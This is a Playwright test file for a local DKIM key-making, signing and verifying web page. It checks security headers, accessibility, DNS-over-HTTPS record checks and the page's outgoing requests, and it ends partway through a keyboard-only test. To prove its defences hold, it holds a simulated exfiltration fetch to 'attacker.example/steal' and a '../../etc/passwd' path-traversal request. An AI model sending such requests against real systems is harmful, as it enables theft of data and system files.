// The browser page, driven in Debian's Chromium by playwright-core, served
// on 127.0.0.1 by scripts/www.mjs (the server users run: MIME types, the
// Content-Security-Policy header). Offline: the DNS-over-HTTPS resolvers
// are answered by the test (Playwright request routing); anything else is refused.
//
//   node --test tests/www/page.test.mjs
//
// What it proves, in order: the page loads under its strict policy with no
// error; both key types are made (with a busy state), saved, and their
// records copied (clipboard read back) in every form; the key and the
// message signed in the page verify with dkimpy, Mail::DKIM, mailauth and
// OpenDKIM (tests/interop/peers.py); verification passes, then fails with
// the reason named when a body byte or the Subject changes (with the diff
// against the sender's copy); the DNS-over-HTTPS check reads both resolver
// formats and flags CNAMEs, test mode, several records, stray quotes, a
// truncated key, the doubled domain; no request goes anywhere but the page's
// own site until the person opts in, and then only to the two resolvers; the
// page's own request list says the same; axe-core finds no WCAG 2.2 A/AA
// violation in any state, light and dark; nothing shifts on its own; and a
// keyboard-only run does the same path with a visible focus at every stop.
// Screenshots of each state go to target/www-screenshots/ (or
// $WAXSEAL_SCREENSHOTS) for a person to look at.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { createPrivateKey, createPublicKey } from 'node:crypto';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { build, metaPolicy, serve } from '../../scripts/www.mjs';

const ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..');
const jsHome = process.env.WAXSEAL_JS_HOME || path.join(process.env.HOME, '.cache/waxseal-js');
const require = createRequire(path.join(jsHome, 'node_modules/'));
const { chromium } = require('playwright-core');
const { AxeBuilder } = require('@axe-core/playwright');

const SHOTS = path.resolve(process.env.WAXSEAL_SCREENSHOTS || path.join(ROOT, 'target/www-screenshots'));
const FLAGS = (process.env.WAXSEAL_CHROMIUM_FLAGS
  || '--headless --no-sandbox --disable-gpu --disable-quic --no-first-run --disable-background-networking --disable-component-update --disable-sync').split(' ');
const RESOLVER_HOSTS = ['cloudflare-dns.com', 'dns.google'];
const DOMAIN = 'example.com';

let tmp;
let server;
let url;
let origin;
let browser;

before(async () => {
  tmp = mkdtempSync(path.join(tmpdir(), 'waxseal-www-'));
  build(path.join(tmp, 'site'));
  ({ server, url } = await serve(path.join(tmp, 'site'), 0));
  origin = new URL(url).origin;
  rmSync(SHOTS, { recursive: true, force: true });
  mkdirSync(SHOTS, { recursive: true });
  browser = await chromium.launch({
    executablePath: process.env.WAXSEAL_CHROMIUM || '/usr/bin/chromium',
    args: FLAGS,
    env: { ...process.env, XDG_CONFIG_HOME: path.join(tmp, 'config'), XDG_CACHE_HOME: path.join(tmp, 'cache') },
  });
});

after(async () => {
  if (browser) await browser.close();
  if (server) server.close();
  if (tmp) rmSync(tmp, { recursive: true, force: true });
});

// ------------------------------------------------------------------ helpers

/**
 * A fresh context and page: clipboard granted, downloads accepted, every
 * request recorded, the resolvers answered from `doh` (a Map of
 * "host name" -> DNS JSON), console errors and policy violations collected.
 */
async function openPage({ colorScheme = 'light', doh = new Map() } = {}) {
  const context = await browser.newContext({ colorScheme, viewport: { width: 1280, height: 900 }, acceptDownloads: true });
  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin });
  const requests = [];
  const problems = [];
  context.on('request', (r) => requests.push({ url: r.url(), method: r.method(), body: r.postData() }));
  await context.route((u) => RESOLVER_HOSTS.includes(u.hostname), (route) => {
    const u = new URL(route.request().url());
    const answer = doh.get(`${u.hostname} ${u.searchParams.get('name')}`) ?? { Status: 3, Answer: [] };
    route.fulfill({
      status: 200,
      contentType: 'application/dns-json',
      headers: { 'access-control-allow-origin': '*' },
      body: JSON.stringify(answer),
    });
  });
  // anything else leaving 127.0.0.1 is refused (and recorded above)
  await context.route((u) => u.hostname !== '127.0.0.1' && !RESOLVER_HOSTS.includes(u.hostname), (route) => route.abort());
  const page = await context.newPage();
  page.on('console', (m) => { if (m.type() === 'error' || m.type() === 'warning') problems.push(`console ${m.type()}: ${m.text()}`); });
  page.on('pageerror', (e) => problems.push(`page error: ${e.stack || e}`));
  // layout shifts that no input caused (the "no layout shift" promise)
  await page.addInitScript(() => {
    window.__shifts = [];
    new PerformanceObserver((l) => {
      for (const e of l.getEntries()) if (!e.hadRecentInput) window.__shifts.push(e.value);
    }).observe({ type: 'layout-shift', buffered: true });
  });
  const response = await page.goto(url);
  await page.waitForSelector('html[data-ready="true"]', { timeout: 30_000 });
  return { context, page, requests, problems, response };
}

/**
 * Screenshots (the whole page, and the part `detail` names) and axe-core,
 * in light and dark, for one state.
 */
async function state(page, n, name, detail) {
  for (const scheme of ['light', 'dark']) {
    await page.emulateMedia({ colorScheme: scheme });
    const base = path.join(SHOTS, `${String(n).padStart(2, '0')}-${name}-${scheme}`);
    await page.screenshot({ path: `${base}.png`, fullPage: true });
    if (detail) await page.locator(detail).first().screenshot({ path: `${base}-detail.png` });
    const { violations } = await new AxeBuilder({ page })
      .withTags(['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa'])
      .analyze();
    assert.deepEqual(violations.map((v) => `${v.id}: ${v.help} (${v.nodes.map((x) => x.target.join(' ')).slice(0, 3).join(', ')})`), [],
      `axe, state ${name}, ${scheme}`);
  }
  await page.emulateMedia({ colorScheme: 'light' });
}

async function downloadOf(page, click) {
  const [d] = await Promise.all([page.waitForEvent('download'), click()]);
  return { name: d.suggestedFilename(), bytes: readFileSync(await d.path()) };
}

const clipboard = (page) => page.evaluate(() => navigator.clipboard.readText());
const card = (page, i) => page.locator('.key-card').nth(i);

/** The DNS JSON of a TXT record: Cloudflare's quoted strings, Google's concatenation. */
function txtAnswer(host, name, records, cname) {
  const answers = [];
  let at = name;
  if (cname) {
    answers.push({ name: `${name}.`, type: 5, TTL: 300, data: `${cname}.` });
    at = cname;
  }
  for (const strings of records) {
    answers.push({
      name: `${at}.`,
      type: 16,
      TTL: 300,
      data: host === 'cloudflare-dns.com' ? strings.map((s) => `"${s.replace(/["\\]/g, '\\$&')}"`).join(' ') : strings.join(''),
    });
  }
  return { Status: 0, Answer: answers };
}

function publish(doh, name, records, cname) {
  for (const host of RESOLVER_HOSTS) doh.set(`${host} ${name}`, txtAnswer(host, name, records, cname));
  if (cname) for (const host of RESOLVER_HOSTS) doh.delete(`${host} ${cname}`);
}

/** The record strings a card shows in its zone-file form (what a zone would hold). */
async function cardStrings(page, i) {
  const zone = await card(page, i).locator('pre[id$="-zone"]').textContent();
  return [...zone.matchAll(/"((?:[^"\\]|\\.)*)"/g)].map((m) => m[1].replace(/\\(.)/g, '$1'));
}

// ------------------------------------------------------------------ the mouse run

test('the page, step by step (mouse), in light and dark', async (t) => {
  const doh = new Map();
  const { context, page, requests, problems, response } = await openPage({ doh });
  let optedIn = false;
  const before = () => requests.filter(() => !optedIn);

  await t.test('served with its policy as a header, the right MIME types, and no error', async () => {
    const headers = response.headers();
    const html = readFileSync(path.join(ROOT, 'www/index.html'), 'utf8');
    assert.equal(headers['content-security-policy'], `${metaPolicy(html)}; frame-ancestors 'none'`);
    assert.match(headers['content-security-policy'], /connect-src 'self' https:\/\/cloudflare-dns\.com https:\/\/dns\.google;/);
    assert.match(headers['content-security-policy'], /script-src 'self' 'wasm-unsafe-eval' 'sha256-/);
    assert.doesNotMatch(headers['content-security-policy'], /'unsafe-inline'|'unsafe-eval'/);
    assert.equal(headers['x-content-type-options'], 'nosniff');
    assert.match(headers['content-type'], /^text\/html/);
    for (const [file, type] of [['pkg/wasm/waxseal_wasm_bg.wasm', 'application/wasm'], ['js/app.js', 'text/javascript; charset=utf-8'],
      ['pkg/browser.js', 'text/javascript; charset=utf-8'], ['css/page.css', 'text/css; charset=utf-8']]) {
      const r = await fetch(new URL(file, url));
      assert.equal(r.headers.get('content-type'), type, file);
      assert.ok(r.headers.get('content-security-policy'), file);
    }
    assert.equal((await fetch(new URL('../../etc/passwd', url))).status, 404);
    assert.equal((await fetch(new URL('_headers', url))).status, 404);
    assert.equal((await fetch(url, { method: 'POST' })).status, 405);
    assert.equal(await page.textContent('#load-state'), 'Ready. Keys and messages stay in this browser.');
    // the policy really is enforced: an inline script does not run, a
    // connection elsewhere is refused, and the page lists the refusal
    assert.equal(await page.evaluate(() => {
      const s = document.createElement('script');
      try {
        s.append(document.createTextNode('window.__inline = 1'));
        document.head.append(s);
      } catch { /* Trusted Types refuse it before CSP does */ }
      return window.__inline ?? null;
    }), null);
    assert.equal(await page.evaluate(() => fetch('https://attacker.example/steal?k=1').then(() => 'fetched', () => 'refused')), 'refused');
    await page.waitForFunction(() => /Blocked by the page's policy/.test(document.getElementById('request-table').textContent));
    assert.match(await page.textContent('#request-summary'), /1 blocked/);
    await page.waitForTimeout(300);
    problems.length = 0; // the refusals just provoked log errors on purpose
    // axe works under this policy: a control with two violations is found
    await page.evaluate(() => {
      const control = document.createElement('div');
      control.id = 'axe-control';
      control.append(document.createElement('img'), document.createElement('input'));
      document.querySelector('main').append(control);
    });
    const { violations } = await new AxeBuilder({ page }).include('#axe-control').withTags(['wcag2a', 'wcag2aa']).analyze();
    assert.deepEqual(violations.map((v) => v.id).sort(), ['image-alt', 'label']);
    await page.evaluate(() => document.getElementById('axe-control').remove());
    await state(page, 1, 'loaded');
  });

  await t.test('a wrong domain is explained at the field', async () => {
    await page.fill('#domain', 'exa mple.com');
    await page.locator('#domain').blur();
    assert.equal(await page.getAttribute('#domain', 'aria-invalid'), 'true');
    assert.match(await page.textContent('#domain-error'), /not a valid domain name/);
    await state(page, 2, 'domain-error', '#keygen');
    await page.fill('#domain', `alice@${DOMAIN}`);
    await page.locator('#domain').blur();
    assert.equal(await page.inputValue('#domain'), DOMAIN);
    assert.equal(await page.getAttribute('#domain', 'aria-invalid'), null);
  });

  const keys = [];
  await t.test('an RSA 2048-bit key, with a busy state while it is made', async () => {
    assert.equal(await page.inputValue('#bits'), '2048');
    await page.evaluate(() => {
      window.__busy = [];
      const b = document.getElementById('generate');
      new MutationObserver(() => window.__busy.push([b.getAttribute('aria-busy'), b.disabled, document.getElementById('generate-busy').textContent]))
        .observe(document.getElementById('keygen'), { attributes: true, subtree: true, childList: true, characterData: true });
    });
    await page.click('#generate');
    await card(page, 0).locator('pre[id$="-value"]').waitFor();
    const busy = await page.evaluate(() => window.__busy);
    assert.ok(busy.some(([aria, disabled, words]) => aria === 'true' && disabled && /Making an RSA 2048-bit key/.test(words)), JSON.stringify(busy));
    assert.equal(await page.getAttribute('#generate', 'aria-busy'), null);
    assert.match(await card(page, 0).locator('h3').textContent(), /RSA 2048-bit key/);
    keys.push({ selector: await card(page, 0).locator('input[id$="-selector"]').inputValue(), algorithm: 'rsa' });
  });

  await t.test('an Ed25519 key', async () => {
    await page.check('input[name="algorithm"][value="ed25519"]');
    assert.equal(await page.isHidden('#bits-field'), true);
    await page.click('#generate');
    await card(page, 1).locator('pre[id$="-value"]').waitFor();
    assert.match(await card(page, 1).locator('h3').textContent(), /Ed25519 key/);
    keys.push({ selector: await card(page, 1).locator('input[id$="-selector"]').inputValue(), algorithm: 'ed25519' });
    assert.notEqual(keys[0].selector, keys[1].selector);
  });

  await t.test('leaving with unsaved keys asks first', async () => {
    const prevented = () => page.evaluate(() => {
      const e = new Event('beforeunload', { cancelable: true });
      window.dispatchEvent(e);
      return e.defaultPrevented;
    });
    assert.equal(await prevented(), true);
    assert.match(await card(page, 0).textContent(), /Not saved/);
    for (const [i, key] of keys.entries()) {
      const { name, bytes } = await downloadOf(page, () => card(page, i).getByRole('button', { name: 'Save the private key (.pem)' }).click());
      assert.equal(name, `${key.selector}._domainkey.${DOMAIN}.private.pem`);
      key.pem = bytes.toString('utf8');
      assert.match(key.pem, /^-----BEGIN PRIVATE KEY-----\n/);
      const k = createPrivateKey(key.pem);
      assert.equal(k.asymmetricKeyType, key.algorithm);
      if (key.algorithm === 'rsa') assert.equal(k.asymmetricKeyDetails.modulusLength, 2048);
      // the record's p= is this key's public half
      const spki = createPublicKey(k).export({ type: 'spki', format: 'der' });
      key.p = key.algorithm === 'rsa' ? spki.toString('base64') : spki.subarray(-32).toString('base64');
      assert.match(await card(page, i).textContent(), /Saved/);
    }
    assert.equal(await prevented(), false);
  });

  await t.test('the record: host names, one string, zone strings, size, copy buttons, test mode', async () => {
    for (const [i, key] of keys.entries()) {
      const c = card(page, i);
      const value = await c.locator('pre[id$="-value"]').textContent();
      assert.match(value, new RegExp(`^v=DKIM1; k=${key.algorithm}; t=y; p=`));
      assert.equal(value.replace(/^.*p=/, ''), key.p);
      assert.equal(await c.locator('code[id$="-host"]').textContent(), `${key.selector}._domainkey`);
      assert.equal(await c.locator('code[id$="-full"]').textContent(), `${key.selector}._domainkey.${DOMAIN}`);
      assert.match(await c.textContent(), new RegExp(`${key.selector}\\._domainkey\\.${DOMAIN.replace('.', '\\.')}\\.${DOMAIN.replace('.', '\\.')}`));
      assert.match(await c.locator('p[id$="-size"]').textContent(), new RegExp(`^${Buffer.byteLength(value)} bytes`));
      const strings = await cardStrings(page, i);
      assert.equal(strings.join(''), value);
      assert.ok(strings.every((s) => Buffer.byteLength(s) <= 255));
      assert.equal(strings.length, key.algorithm === 'rsa' ? 2 : 1);
      await c.getByRole('button', { name: 'Copy the value' }).click();
      assert.equal(await clipboard(page), value);
      await c.getByRole('button', { name: 'Copy the name', exact: true }).click();
      assert.equal(await clipboard(page), `${key.selector}._domainkey`);
      await c.getByRole('button', { name: 'Copy the full name' }).click();
      assert.equal(await clipboard(page), `${key.selector}._domainkey.${DOMAIN}`);
      await c.getByRole('button', { name: 'Copy the zone-file line' }).click();
      assert.equal(await clipboard(page), await c.locator('pre[id$="-zone"]').textContent());
      // said to screen readers, too
      await page.waitForFunction(() => document.getElementById('announce').textContent === 'Copied the zone-file line.');
      assert.match(await c.textContent(), /Remember to remove it/);
      key.record = value;
      key.recordFile = await downloadOf(page, () => c.getByRole('button', { name: 'Save the record (.txt)' }).click());
      assert.equal(key.recordFile.name, `${key.selector}._domainkey.${DOMAIN}.txt`);
    }
    // the test-mode switch takes t=y out, and back
    const c = card(page, 0);
    await c.getByLabel(/Test mode/).uncheck();
    assert.doesNotMatch(await c.locator('pre[id$="-value"]').textContent(), /t=y/);
    assert.doesNotMatch(await c.textContent(), /Remember to remove it/);
    await c.getByLabel(/Test mode/).check();
    assert.equal(await c.locator('pre[id$="-value"]').textContent(), keys[0].record);
    await state(page, 3, 'keys', '#key-list');
  });

  await t.test('the legacy policy record beside DMARC, with the mailing-list caveat', async () => {
    assert.equal(await page.textContent('#legacy-name'), `_policy._domainkey.${DOMAIN}`);
    assert.equal(await page.textContent('#legacy-value'), 'o=~');
    assert.equal(await page.textContent('#dmarc-value'), 'v=DMARC1; p=none');
    assert.equal(await page.isHidden('#policy-caveat'), true);
    await page.check('input[name="practice"][value="!"]');
    await page.fill('#policy-report', `postmaster@${DOMAIN}`);
    assert.equal(await page.textContent('#legacy-value'), `o=!; r=postmaster@${DOMAIN}`);
    assert.equal(await page.textContent('#dmarc-value'), `v=DMARC1; p=reject; adkim=s; rua=mailto:postmaster@${DOMAIN}`);
    assert.equal(await page.isVisible('#policy-caveat'), true);
    assert.match(await page.textContent('#policy-caveat'), /Mailing lists/);
    assert.match(await page.textContent('#policy'), /Obsolete/i);
    await page.locator('#policy button.copy').nth(1).click();
    assert.equal(await clipboard(page), `v=DMARC1; p=reject; adkim=s; rua=mailto:postmaster@${DOMAIN}`);
    await page.locator('#policy').scrollIntoViewIfNeeded();
    await state(page, 4, 'policy', '#policy');
  });

  let signed;
  await t.test('a sample message signed with both keys, saved byte for byte', async () => {
    await page.click('#sign-sample');
    await page.click('#sign-button');
    await page.waitForSelector('#sign-output:not([hidden])');
    const text = await page.inputValue('#signed-message');
    assert.equal((text.match(/^DKIM-Signature:/gm) ?? []).length, 2);
    const file = await downloadOf(page, () => page.click('#signed-download'));
    assert.equal(file.name, 'signed.eml');
    signed = file.bytes;
    assert.match(signed.toString('latin1'), /^DKIM-Signature: v=1; a=rsa-sha256; c=relaxed\/relaxed; d=example\.com;\r\n/);
    assert.ok(!/[^\r]\n/.test(signed.toString('latin1')), 'CRLF throughout');
    await state(page, 5, 'signed', '#sign');
  });

  // verifies and waits for this run's results (data-runs counts the runs drawn)
  const verifyNow = async () => {
    const runs = Number(await page.getAttribute('#verify-output', 'data-runs') ?? 0);
    await page.click('#verify-button');
    await page.waitForFunction((n) => Number(document.getElementById('verify-output').dataset.runs ?? 0) > n, runs);
  };
  const results = () => page.locator('#verify-output article.result');

  await t.test('a chosen file is signed byte for byte (LF line ends, 8-bit bytes); a dropped file is read the same way', async () => {
    // ISO-8859-1 text and bare LF: read as bytes, never decoded and re-encoded
    const raw = Buffer.concat([Buffer.from(`From: Zoë <zoe@${DOMAIN}>\nTo: bob@example.net\nSubject: caf`, 'latin1'),
      Buffer.from([0xe9]), Buffer.from('\nContent-Type: text/plain; charset=iso-8859-1\n\nd\xe9j\xe0 vu\n', 'latin1')]);
    await page.setInputFiles('#sign-file', { name: 'latin1.eml', mimeType: 'message/rfc822', buffer: raw });
    await page.waitForFunction(() => /File latin1\.eml: \d+ bytes, used exactly as read \(not UTF-8/.test(document.getElementById('sign-message-note').textContent));
    await page.click('#sign-button');
    await page.waitForFunction(() => /^DKIM-Signature/.test(document.getElementById('signed-message').value)
      && !document.getElementById('signed-message').value.includes('Our DKIM set-up works'));
    const out = (await downloadOf(page, () => page.click('#signed-download'))).bytes;
    assert.deepEqual(out.subarray(out.length - raw.length), raw, 'the file\'s bytes, untouched, under the signatures');
    assert.ok(!out.subarray(0, out.length - raw.length).includes(13), 'the signature fields follow the message\'s LF style');
    // the same bytes dropped on the verify field verify
    const dt = await page.evaluateHandle((bytes) => {
      const d = new DataTransfer();
      d.items.add(new File([new Uint8Array(bytes)], 'dropped.eml', { type: 'message/rfc822' }));
      return d;
    }, [...out]);
    await page.dispatchEvent('[data-drop="verify"]', 'drop', { dataTransfer: dt });
    await page.waitForFunction(() => /File dropped\.eml/.test(document.getElementById('verify-message-note').textContent));
    await verifyNow();
    for (const h of await page.locator('#verify-output article.result h4').allTextContents()) assert.match(h, /Pass/);
    // back to the sample message for the steps below
    await page.click('#sign-sample');
    await page.click('#sign-button');
    await page.waitForFunction(() => document.getElementById('signed-message').value.includes('Our DKIM set-up works'));
    signed = (await downloadOf(page, () => page.click('#signed-download'))).bytes;
  });

  await t.test('dkimpy, Mail::DKIM, mailauth and OpenDKIM verify the key and message from the page', () => {
    const dir = path.join(tmp, 'keys');
    mkdirSync(dir, { recursive: true });
    for (const key of keys) writeFileSync(path.join(dir, key.recordFile.name), key.recordFile.bytes);
    writeFileSync(path.join(tmp, 'signed.eml'), signed);
    const out = execFileSync('python3', [path.join(ROOT, 'tests/interop/peers.py'), 'verify', '--keys', dir, path.join(tmp, 'signed.eml')],
      { encoding: 'utf8', timeout: 120_000 });
    const { peers } = JSON.parse(out.trim().split('\n')[0]);
    assert.deepEqual(Object.keys(peers).sort(), ['dkimpy', 'mailauth', 'maildkim', 'opendkim']);
    for (const [peer, v] of Object.entries(peers)) {
      assert.equal(v.error, null, `${peer}: ${v.error}`);
      assert.deepEqual(v.sigs.map((s) => [s.s, s.result, s.detail]), keys.map((k) => [k.selector, 'pass', '']), peer);
    }
  });


  await t.test('verify: pass with the keys made here', async () => {
    await page.click('#signed-to-verify');
    assert.equal(await page.evaluate(() => document.activeElement.id), 'verify-message');
    assert.match(await page.textContent('#verify-message-note'), /used exactly as read/);
    await verifyNow();
    assert.equal(await results().count(), 2);
    for (let i = 0; i < 2; i++) {
      assert.match(await results().nth(i).locator('h4').textContent(), /Pass/);
    }
    assert.match(await page.textContent('#auth-results'), /dkim=pass .*header\.s=rsa\d+ /);
    await page.waitForFunction(() => /Signature 1: Pass\. Signature 2: Pass/.test(document.getElementById('announce').textContent));
    await state(page, 6, 'verify-pass', '#verify-output');
  });

  await t.test('verify: one body byte changed fails with "body hash mismatch" and the diff', async () => {
    const text = signed.toString('utf8');
    const changed = text.replace('If its signature verifies', 'If its signature verified');
    assert.notEqual(changed, text);
    await page.fill('#verify-message', changed);
    await page.click('#sender-copy summary');
    await page.click('#sender-use-signed');
    await verifyNow();
    for (let i = 0; i < 2; i++) {
      const r = results().nth(i);
      assert.match(await r.locator('h4').textContent(), /Fail\s*body hash mismatch/);
      assert.match(await r.textContent(), /The body changed after the message was signed/);
      assert.match(await r.textContent(), /Body hash: ✗different/);
      const row = r.locator('table.diff tr.change');
      assert.equal(await row.count(), 1);
      assert.match(await row.textContent(), /If its signature verifies.*If its signature verified.*changed/);
    }
    assert.match(await page.textContent('#auth-results'), /dkim=fail \(key in test mode\) reason="body hash mismatch"/);
    await page.waitForFunction(() => /Signature 1: Fail\. The body changed/.test(document.getElementById('announce').textContent));
    await results().nth(0).locator('table.diff').scrollIntoViewIfNeeded();
    await state(page, 7, 'verify-body-changed', '#sig-1');
  });

  await t.test('verify: a changed Subject fails, and the field is named', async () => {
    const changed = signed.toString('utf8').replace('Subject: Our DKIM set-up works', 'Subject: Our DKIM set-up works!');
    await page.fill('#verify-message', changed);
    await verifyNow();
    for (let i = 0; i < 2; i++) {
      const r = results().nth(i);
      assert.match(await r.locator('h4').textContent(), /Fail/);
      assert.match(await r.textContent(), /The signed header field Subject changed after signing\./);
      const row = r.locator('tr.h-changed');
      assert.equal(await row.count(), 1);
      assert.match(await row.textContent(), /^Subject.*changed.*subject:Our DKIM set-up works.*subject:Our DKIM set-up works!/);
      assert.match(await r.textContent(), /Body hash: ✓same/);
    }
    await state(page, 8, 'verify-subject-changed', '#sig-1');
  });

  // ---- from here on the person has asked for DNS-over-HTTPS lookups
  await t.test('before any opt-in, every request went to the page\'s own site, all GET', () => {
    const seen = before();
    assert.ok(seen.length > 10);
    for (const r of seen) {
      assert.ok(r.url.startsWith(`${origin}/`) || r.url.startsWith('blob:'), r.url);
      assert.equal(r.method, 'GET', r.url);
      assert.equal(r.body, null, r.url);
    }
  });

  await t.test('check what I published: CNAME and test mode; several records and stray quotes; truncated; doubled domain', async () => {
    optedIn = true;
    const [rsa, ed] = keys;
    const rsaName = `${rsa.selector}._domainkey.${DOMAIN}`;
    const edName = `${ed.selector}._domainkey.${DOMAIN}`;
    const rsaStrings = await cardStrings(page, 0);
    publish(doh, rsaName, [rsaStrings], `${rsa.selector}.dkim.mail-provider.example`);
    // the zone-file form pasted into a web form (quotes in the value), and an old key left behind
    publish(doh, edName, [[`"${ed.record}"`], ['v=DKIM1; k=ed25519; p=MCowBQYDK2VwAyEAold']]);
    doh.set(`dns.google ${edName}`, { Status: 3 });

    const check = async (i) => {
      const c = card(page, i);
      await c.getByRole('button', { name: 'Check what I published' }).click();
      await c.locator('.check-output .result').waitFor();
      await page.waitForFunction((b) => document.getElementById(b).getAttribute('aria-busy') === null, await c.locator('button[id$="-check"]').getAttribute('id'));
      return c.locator('.check-output').textContent();
    };
    let text = await check(0);
    assert.match(text, /Published, with a warning/);
    assert.match(text, new RegExp(`is an alias \\(CNAME\\) of ${rsa.selector}\\.dkim\\.mail-provider\\.example`));
    assert.match(text, /The published key is the RSA key made here/);
    assert.match(text, /test mode \(t=y\)/);
    text = await check(1);
    assert.match(text, /Something is wrong/);
    assert.match(text, /There are 2 TXT records/);
    assert.match(text, /quote \(\"\) or backslash characters/);
    assert.match(text, /resolvers give different answers/);
    await card(page, 1).locator('.check-output').scrollIntoViewIfNeeded();
    await state(page, 9, 'check-problems', '#key-list');

    // the provider kept only the first 255 bytes
    publish(doh, rsaName, [[rsaStrings[0]]]);
    assert.match(await check(0), /The key is cut short: \d+ of its \d+ characters/);
    // the full name typed where the provider appends the domain
    for (const host of RESOLVER_HOSTS) doh.set(`${host} ${edName}`, { Status: 3 });
    publish(doh, `${edName}.${DOMAIN}`, [[ed.record]]);
    text = await check(1);
    assert.match(text, /There is no record at/);
    assert.match(text, new RegExp(`A record exists at ${edName.replaceAll('.', '\\.')}\\.${DOMAIN.replace('.', '\\.')}`));
    assert.match(text, new RegExp(`enter only ${ed.selector}\\._domainkey`));
  });

  await t.test('verify with the key fetched over DNS-over-HTTPS', async () => {
    publish(doh, `${keys[0].selector}._domainkey.${DOMAIN}`, [await cardStrings(page, 0)]);
    publish(doh, `${keys[1].selector}._domainkey.${DOMAIN}`, [[keys[1].record]]);
    await page.fill('#verify-message', signed.toString('utf8'));
    await page.check('input[name="key-source"][value="doh"]');
    await verifyNow();
    for (let i = 0; i < 2; i++) {
      const r = results().nth(i);
      assert.match(await r.locator('h4').textContent(), /Pass/);
      assert.match(await r.textContent(), /from DNS over HTTPS \(Cloudflare \(1\.1\.1\.1\)\)/);
    }
    await state(page, 10, 'verify-doh', '#verify-output');
  });

  await t.test('verify with a pasted zone-file line', async () => {
    await page.check('input[name="key-source"][value="paste"]');
    await page.fill('#paste-record', await card(page, 1).locator('pre[id$="-zone"]').textContent());
    await verifyNow();
    assert.match(await results().nth(1).locator('h4').textContent(), /Pass/);
    assert.match(await results().nth(0).locator('h4').textContent(), /Fail|Permanent error/);
  });

  await t.test('after the opt-in: only the two resolvers besides the site, the names only; the page lists the same', async () => {
    const names = new Set();
    for (const r of requests) {
      const u = new URL(r.url);
      if (u.protocol === 'blob:' || u.origin === origin) continue;
      assert.ok(['https://cloudflare-dns.com/dns-query', 'https://dns.google/resolve'].includes(`${u.origin}${u.pathname}`), r.url);
      assert.deepEqual([...u.searchParams.keys()].sort(), ['name', 'type'], r.url);
      assert.equal(u.searchParams.get('type'), 'TXT');
      assert.equal(r.method, 'GET');
      names.add(u.searchParams.get('name'));
    }
    const rsaName = `${keys[0].selector}._domainkey.${DOMAIN}`;
    const edName = `${keys[1].selector}._domainkey.${DOMAIN}`;
    assert.deepEqual([...names].sort(), [edName, `${edName}.${DOMAIN}`, rsaName].sort());
    // nothing secret in any address
    for (const r of requests) {
      for (const key of keys) {
        const body = key.pem.replace(/-----[^-]+-----|\s/g, '');
        assert.ok(!r.url.includes(body.slice(40, 80)), 'private key material in a request');
      }
    }
    // the page's own list (Resource Timing) has every network request the
    // browser made (and, apart, the one connection its policy refused)
    const rows = await page.$$eval('#request-table tbody tr', (trs) => trs.map((tr) => [tr.cells[1].textContent, tr.cells[2].textContent]));
    assert.deepEqual(rows.filter(([, kind]) => /Blocked/.test(kind)).map(([u]) => u), ['https://attacker.example/steal?k=1']);
    const listed = rows.filter(([, kind]) => !/Blocked/.test(kind)).map(([u]) => u);
    const absolute = listed.map((u) => (u.startsWith('/') ? `${origin}${u}` : u));
    const made = requests.map((r) => r.url).filter((u) => !u.startsWith('blob:'));
    assert.deepEqual([...new Set(absolute)].sort(), [...new Set(made)].sort());
    const foreign = (list) => list.filter((u) => !u.startsWith(origin)).sort();
    assert.deepEqual(foreign(absolute), foreign(made), 'one row per lookup');
    assert.match(await page.textContent('#request-summary'), /to cloudflare-dns\.com and dns\.google \(lookups you asked for\); 1 blocked/);
    await page.locator('#requests').scrollIntoViewIfNeeded();
    await state(page, 11, 'requests', '#requests');
  });

  await t.test('nothing moved on its own; no error, no policy violation', async () => {
    const shifts = await page.evaluate(() => window.__shifts);
    const cls = shifts.reduce((a, b) => a + b, 0);
    assert.ok(cls < 0.01, `cumulative layout shift without input ${cls} (${shifts.join(', ')})`);
    assert.deepEqual(problems, []);
  });
  await context.close();
});

// ------------------------------------------------------------------ the keyboard run

/**
 * Moves the focus with Tab (or Shift+Tab) until `selector` has it, and
 * checks that the focus is visible there (:focus-visible, a 2px+ outline on
 * the element, or on the label around a visually hidden file input).
 */
async function tabTo(page, selector, { back = false, max = 120 } = {}) {
  for (let i = 0; i < max; i++) {
    await page.keyboard.press(back ? 'Shift+Tab' : 'Tab');
    const hit = await page.evaluate((sel) => {
      const el = document.activeElement;
      if (!el || !el.matches(sel)) return null;
      const shown = el.type === 'file' ? el.closest('label') : el;
      const style = getComputedStyle(shown);
      return { visible: el.matches(':focus-visible'), outline: style.outlineStyle, width: parseFloat(style.outlineWidth) };
    }, selector);
    if (hit) {
      assert.ok(hit.visible && hit.outline !== 'none' && hit.width >= 2, `focus on ${selector} not visible: ${JSON.stringify(hit)}`);
      return;
    }
  }
  assert.fail(`${selector} not reached with the keyboard`);
}

test('the same path with the keyboard only (dark)', async () => {
  const { context, page, problems } = await openPage({ colorScheme: 'dark' });
  await tabTo(page, '#domain');
  await page.keyboard.type('example.org');
  await tabTo(page, '#generate');
  await page.keyboard.press('Enter');
  await card(page, 0).locator('pre[id$="-value"]').waitFor();
  assert.equal(await page.evaluate(() => document.activeElement.tagName), 'H3');
  await tabTo(page, '.key-card button.primary');
  const [pem] = await Promise.all([page.waitForEvent('download'), page.keyboard.press('Enter')]);
  assert.match(readFileSync(await pem.path(), 'utf8'), /^-----BEGIN PRIVATE KEY-----/);
  await tabTo(page, '.key-card button[aria-label="Copy the value"]');
  await page.keyboard.press('Enter');
  await page.waitForFunction(() => /Copied the value/.test(document.getElementById('announce').textContent));
  assert.match(await clipboard(page), /^v=DKIM1; k=rsa; t=y; p=/);

  // Ed25519: the radio group is one stop; arrows choose
  await tabTo(page, 'input[name="algorithm"]:checked', { back: true });
  await page.keyboard.press('ArrowDown');
  assert.equal(await page.evaluate(() => document.activeElement.value), 'ed25519');
  await tabTo(page, '#generate');
  await page.keyboard.press('Enter');
  await card(page, 1).locator('pre[id$="-value"]').waitFor();

  await tabTo(page, '#sign-sample');
  await page.keyboard.press('Enter');
  await tabTo(page, '#sign-button');
  await page.keyboard.press('Enter');
  await page.waitForSelector('#sign-output:not([hidden])');
  await tabTo(page, '#signed-to-verify');
  await page.keyboard.press('Enter');
  await tabTo(page, '#verify-button');
  await page.keyboard.press('Enter');
